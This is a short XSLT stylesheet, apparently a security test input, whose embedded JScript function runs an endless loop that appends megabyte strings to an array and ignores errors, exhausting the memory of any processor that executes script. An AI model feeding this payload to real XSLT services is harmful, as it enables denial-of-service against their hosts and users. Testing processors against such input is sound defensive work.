<?xml version="1.0" encoding="UTF-8"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:hostile-script">
  <xsl:output method="xml" encoding="UTF-8" omit-xml-declaration="yes"/>
  <msxsl:script language="JScript" implements-prefix="user">
    var hoard = [];
    function grow() {
      var chunk = new Array(1048577).join("x");
      for (var i = 0; ; ++i) { try { hoard.push(i + chunk); } catch (e) { } }
    }
  </msxsl:script>
  <xsl:template match="/"><out><xsl:value-of select="user:grow()"/></out></xsl:template>
</xsl:stylesheet>
